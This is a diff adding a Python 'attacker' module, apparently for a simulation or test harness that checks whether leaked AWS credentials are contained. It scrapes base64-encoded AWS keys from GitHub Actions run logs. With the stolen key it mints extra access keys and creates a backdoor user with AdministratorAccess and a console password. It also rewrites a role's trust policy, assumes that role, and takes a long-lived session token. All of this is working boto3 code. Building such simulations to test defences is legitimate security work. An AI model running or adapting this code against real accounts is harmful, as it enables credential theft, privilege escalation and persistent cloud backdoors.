@@ -1,0 +1,183 @@
+"""The attacker: an outsider with a free GitHub account. It reads the public log, uses the key, and keeps trying."""
+
+from __future__ import annotations
+
+import base64
+import binascii
+import io
+import json
+import re
+import secrets
+import zipfile
+from collections.abc import Callable
+from dataclasses import dataclass
+from typing import Any
+from urllib.parse import urlsplit
+
+import boto3
+import requests
+from botocore.config import Config
+from botocore.exceptions import BotoCoreError, ClientError
+
+PLANTED_USER, ROLE = "svc-cache-sync", "ferry-deploy"
+REFUSALS = {
+    "AccessDenied", "InvalidClientTokenId", "InvalidAccessKeyId", "SignatureDoesNotMatch", "ExpiredToken",
+    "InvalidToken",
+}  # fmt: skip
+_LINE = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d+Z ?", re.MULTILINE)
+_KEY = re.compile(r"AWS_ACCESS_KEY_ID=(\S+)")
+_SECRET = re.compile(r"AWS_SECRET_ACCESS_KEY=(\S+)")
+
+
+class NothingFound(Exception):
+    """The log is not readable, or holds no key."""
+
+
+@dataclass(frozen=True, slots=True)
+class Loot:
+    """Credentials that the attacker holds."""
+
+    key_id: str
+    secret: str
+    token: str | None = None
+
+    def __repr__(self) -> str:
+        return f"Loot({self.key_id})"
+
+
+class Attacker:
+    """A scripted client. It holds what it took in ``loot``, by the names of its tries."""
+
+    def __init__(self, aws_url: str, github_url: str, token: str) -> None:
+        self._aws, self._github, self._token = aws_url, github_url, token
+        self._session = boto3.session.Session(region_name="us-east-1")
+        self.loot: dict[str, Loot] = {}
+
+    def client(self, service: str, loot: Loot) -> Any:
+        """A boto3 client that signs with some loot."""
+        config = Config(
+            retries={"total_max_attempts": 1}, connect_timeout=5, read_timeout=20, s3={"addressing_style": "path"}
+        )
+        return self._session.client(
+            service, endpoint_url=self._aws, config=config, aws_access_key_id=loot.key_id,
+            aws_secret_access_key=loot.secret, aws_session_token=loot.token,
+        )  # fmt: skip
+
+    def read_log(self, run_url: str) -> Loot:
+        """The key in a run's public log. Raises ``NothingFound`` when there is none to be had."""
+        owner, repo, _, _, run_id = urlsplit(run_url).path.strip("/").split("/")[:5]
+        with requests.Session() as session:
+            session.trust_env = False
+            found = session.get(
+                f"{self._github}/repos/{owner}/{repo}/actions/runs/{run_id}/logs",
+                headers={"Authorization": f"Bearer {self._token}"}, timeout=20,
+            )  # fmt: skip
+        if found.status_code != requests.codes.ok:
+            raise NothingFound(f"the log answers {found.status_code}")
+        with zipfile.ZipFile(io.BytesIO(found.content)) as archive:
+            for name in archive.namelist():
+                loot = _decoded_key(archive.read(name).decode(errors="replace"))
+                if loot:
+                    return loot
+        raise NothingFound("no key in the log")
+
+    def abuse(self, run_url: str) -> list[dict[str, Any]]:
+        """Take the key from the log and use it. Returns the acts with what came of each."""
+        self.loot = {"key": self.read_log(run_url)}
+        acts: list[dict[str, Any]] = [{"act": "github:ReadRunLog", "ok": True, "code": "", "made": ""}]
+        key = self.loot["key"]
+        iam, sts = self.client("iam", key), self.client("sts", key)
+
+        def act(name: str, made: str, call: Callable[[], Any]) -> Any:
+            code, answer = "", None
+            try:
+                answer = call()
+            except ClientError as exc:
+                code = str(exc.response["Error"]["Code"])
+            acts.append({"act": name, "ok": not code, "code": code, "made": made})
+            return answer
+
+        me = act("sts:GetCallerIdentity", "", sts.get_caller_identity)
+        victim = str(me["Arn"]).rsplit("/", 1)[-1] if me else ""
+        self._take("second-key", act("iam:CreateAccessKey", victim, lambda: iam.create_access_key(UserName=victim)))
+        act("iam:CreateUser", PLANTED_USER, lambda: iam.create_user(UserName=PLANTED_USER))
+        act("iam:AttachUserPolicy", PLANTED_USER, lambda: iam.attach_user_policy(
+            UserName=PLANTED_USER, PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess"))  # fmt: skip
+        act("iam:PutUserPolicy", PLANTED_USER, lambda: iam.put_user_policy(
+            UserName=PLANTED_USER, PolicyName="cache", PolicyDocument=_everything()))  # fmt: skip
+        self._take("planted-user", act(
+            "iam:CreateAccessKey", PLANTED_USER, lambda: iam.create_access_key(UserName=PLANTED_USER)))  # fmt: skip
+        act("iam:CreateLoginProfile", PLANTED_USER, lambda: iam.create_login_profile(
+            UserName=PLANTED_USER, Password=secrets.token_urlsafe(24), PasswordResetRequired=False))  # fmt: skip
+        role = act("iam:GetRole", "", lambda: iam.get_role(RoleName=ROLE))
+        if role:
+            opened = _let_in(role["Role"]["AssumeRolePolicyDocument"], victim)
+            act("iam:UpdateAssumeRolePolicy", ROLE, lambda: iam.update_assume_role_policy(
+                RoleName=ROLE, PolicyDocument=opened))  # fmt: skip
+            self._take("role-session", act("sts:AssumeRole", ROLE, lambda: sts.assume_role(
+                RoleArn=role["Role"]["Arn"], RoleSessionName="cache-sync")))  # fmt: skip
+        self._take("saved-session", act(
+            "sts:GetSessionToken", victim, lambda: sts.get_session_token(DurationSeconds=129600)))  # fmt: skip
+        return acts
+
+    def _take(self, name: str, answer: Any) -> None:
+        if answer and "AccessKey" in answer:
+            self.loot[name] = Loot(answer["AccessKey"]["AccessKeyId"], answer["AccessKey"]["SecretAccessKey"])
+        elif answer:
+            found = answer["Credentials"]
+            self.loot[name] = Loot(found["AccessKeyId"], found["SecretAccessKey"], found["SessionToken"])
+
+    def tries(self) -> list[dict[str, Any]]:
+        """Try everything that was taken. ``refused`` is about a real call; GetCallerIdentity passes under a Deny."""
+        found = []
+        for name in ("key", "second-key", "planted-user", "saved-session", "role-session"):
+            if name not in self.loot:
+                continue
+            loot = self.loot[name]
+            identity = _code(self.client("sts", loot).get_caller_identity)
+            code = self.probe(loot)
+            found.append({"name": name, "refused": code in REFUSALS, "code": code, "identity_code": identity})
+        return found
+
+    def probe(self, loot: Loot) -> str:
+        """What a real call (s3:ListBuckets) with some loot is answered: a code, or '' when it passes."""
+        return _code(self.client("s3", loot).list_buckets)
+
+
+def _code(call: Callable[[], Any]) -> str:
+    """What AWS said: a code, or '' when it let the call pass."""
+    try:
+        call()
+    except ClientError as exc:
+        return str(exc.response["Error"]["Code"])
+    except BotoCoreError as exc:
+        return type(exc).__name__
+    return ""
+
+
+def _decoded_key(log: str) -> Loot | None:
+    """A key in a log, in base64 that may be wrapped over lines."""
+    plain = _LINE.sub("", log).replace("\r", "")
+    for block in re.findall(r"(?:^[A-Za-z0-9+/]{20,}={0,2}\n?)+", plain, re.MULTILINE):
+        try:
+            text = base64.b64decode(re.sub(r"\s", "", block)).decode(errors="replace")
+        except binascii.Error:
+            continue
+        key, secret = _KEY.search(text), _SECRET.search(text)
+        if key and secret:
+            return Loot(key[1], secret[1])
+    return None
+
+
+def _everything() -> str:
+    return json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]})
+
+
+def _let_in(trust: Any, victim: str) -> str:
+    """The role's trust policy with the planted user let in beside those it trusts."""
+    statement = trust["Statement"][0]
+    before = statement["Principal"]["AWS"]
+    arns = before if isinstance(before, list) else [before]
+    planted = next(arn for arn in arns if arn.endswith(f"/{victim}")).replace(victim, PLANTED_USER)
+    opened = {**statement, "Principal": {"AWS": [*arns, planted]}}
+    return json.dumps({**trust, "Statement": [opened, *trust["Statement"][1:]]})
